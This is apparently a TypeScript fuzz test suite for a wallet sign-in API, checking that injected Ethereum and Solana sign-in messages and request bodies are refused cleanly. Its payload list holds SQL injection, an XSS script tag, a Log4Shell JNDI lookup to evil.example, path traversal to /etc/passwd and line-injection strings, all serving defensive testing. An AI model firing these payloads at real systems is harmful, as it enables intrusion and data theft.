import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SecurityEvent } from '../../src/security/events/index.js';
import { startTestServer, type TestServer } from '../support/server.js';
import { ethereumWallet, postLogin, requestChallenge, solanaWallet } from '../support/wallet.js';

/** What attackers paste into every field: injections, control and bidi characters, huge and odd values. */
const PAYLOADS = [
  "' OR '1'='1' --",
  '"; DROP TABLE accounts; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00',
  '\u0000',
  '\u202eevil',
  '𝓜𝓸𝓸𝓷',
  'ÿ',
  '\r',
  '\t',
  'line\nURI: https://evil.example',
  'x\n\nNonce: deadbeefdeadbeef',
  '',
  ' ',
  'a'.repeat(5000),
  '9'.repeat(400),
  '-1',
  '1e309',
  'NaN',
  'null',
  '0x',
  '{}',
  '2026-13-45T99:99:99Z',
];

const LEAK = /<script>|jndi|DROP TABLE|etc\/passwd/;

let server: TestServer;
const failed: SecurityEvent[] = [];
beforeAll(async () => {
  server = await startTestServer();
  server.services.events.subscribe((e) => {
    if (e.type === 'signin.failed') failed.push(e);
  });
});
afterAll(() => server.close());

/** Replaces line `index` of the message (or inserts before it) with the payload. */
type Mutation = { field: string; apply: (lines: string[], payload: string) => string[]; freeText?: boolean };

function valueOf(prefix: string): Mutation {
  return {
    field: prefix,
    apply: (lines, p) => lines.map((l) => (l.startsWith(`${prefix}: `) ? `${prefix}: ${p}` : l)),
  };
}

const COMMON: Mutation[] = [
  { field: 'domain', apply: (lines, p) => [lines[0]!.replace(/^(https?:\/\/)?[^ ]+ wants/, `$1${p} wants`), ...lines.slice(1)] },
  { field: 'address', apply: (lines, p) => [lines[0]!, p, ...lines.slice(2)] },
  { field: 'statement', apply: (lines, p) => [...lines.slice(0, 3), p, ...lines.slice(4)], freeText: true },
  valueOf('URI'),
  valueOf('Version'),
  valueOf('Chain ID'),
  valueOf('Nonce'),
  valueOf('Issued At'),
  valueOf('Expiration Time'),
  { field: 'extra line before URI', apply: (lines, p) => [...lines.slice(0, 5), p, ...lines.slice(5)] },
  { field: 'trailing line', apply: (lines, p) => [...lines, p] },
  { field: 'Not Before', apply: (lines, p) => [...lines, `Not Before: ${p}`] },
  { field: 'Resources', apply: (lines, p) => [...lines, 'Resources:', `- ${p}`] },
];

/** A statement is free text: any single printable ASCII line is a legitimate one. */
const fineAsStatement = (p: string) => /^[\x20-\x7e]+$/.test(p) && p.length < 3000;

async function attempt(chain: 'ethereum' | 'solana', mutation: Mutation, payload: string) {
  const wallet = chain === 'ethereum' ? ethereumWallet() : solanaWallet();
  const { message } = await requestChallenge(server, wallet.address, chain);
  const changed = mutation.apply(message.split('\n'), payload).join('\n');
  const res = await postLogin(server, changed, await wallet.sign(changed));
  return { res, changed };
}

describe.each(['ethereum', 'solana'] as const)('every field of a %s sign-in message, fuzzed', (chain) => {
  it.each(COMMON.map((m) => [m.field, m] as const))('%s: refused with 401 invalid_credentials, never a 500, never echoed', async (_field, mutation) => {
    for (const payload of PAYLOADS) {
      const before = failed.length;
      const { res } = await attempt(chain, mutation, payload);
      const label = `${mutation.field} = ${JSON.stringify(payload.slice(0, 40))}`;
      if (payload.includes('\u0000')) {
        // No request body may carry U+0000 (API.md, request bodies): refused as malformed input,
        // before the message is even read as a sign-in.
        expect(res.statusCode, label).toBe(400);
        expect(res.json().code, label).toBe('validation_failed');
        continue;
      }
      if (mutation.freeText && fineAsStatement(payload)) {
        expect(res.statusCode, label).toBe(200);
        continue;
      }
      expect(res.statusCode, label).toBe(401);
      expect(res.json().code, label).toBe('invalid_credentials');
      expect(res.body, label).not.toMatch(LEAK);
      expect(failed.length, label).toBe(before + 1);
    }
  });
});

describe('the request bodies, fuzzed', () => {
  it('login: any strings are refused with 401 (or 400 beyond the size bound), never a 500', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 300 }), fc.string({ unit: 'binary', maxLength: 200 }), async (message, signature) => {
        const res = await server.app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: { message, signature } });
        expect([400, 401]).toContain(res.statusCode);
        expect(['invalid_credentials', 'validation_failed']).toContain(res.json().code);
      }),
      { numRuns: 150 },
    );
  });

  it('login: wrong JSON types and unknown fields are 400 validation_failed', async () => {
    for (const payload of [{ message: 1, signature: 'x' }, { message: ['a'], signature: 'x' }, { message: null, signature: 'x' }, { message: 'a' }, { message: 'a', signature: 'b', admin: true }, []]) {
      const res = await server.app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: payload as object });
      expect(res.statusCode).toBe(400);
      expect(res.json().code).toBe('validation_failed');
    }
  });

  it('login: a message beyond the bound is refused without being parsed', async () => {
    const res = await postLogin(server, 'x'.repeat(9000), '0x');
    expect(res.statusCode).toBe(400);
    const res2 = await postLogin(server, `${'x'.repeat(5000)}\nwants you to sign in with your Ethereum account:`, '0x');
    expect(res2.statusCode).toBe(401);
  });

  it('challenge: any address or chain is refused with 400, never a 500', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 80 }), fc.constantFrom('ethereum', 'solana', 'bitcoin', '', 'ETHEREUM'), async (address, chain) => {
        const res = await server.app.inject({ method: 'POST', url: '/api/v1/auth/challenge', payload: { address, chain } });
        expect(res.statusCode).toBe(400);
        expect(res.json().code).toBe('validation_failed');
      }),
      { numRuns: 150 },
    );
  });

  it('refresh: any string is refused with 401 invalid_token (or 400 beyond the size bound), never a 500', async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(fc.string({ unit: 'binary', maxLength: 600 }), fc.string().map((s) => `mdr_${s}`)), async (refreshToken) => {
        const res = await server.app.inject({ method: 'POST', url: '/api/v1/auth/refresh', payload: { refreshToken } });
        expect([400, 401]).toContain(res.statusCode);
        expect(['invalid_token', 'validation_failed']).toContain(res.json().code);
      }),
      { numRuns: 150 },
    );
  });
});
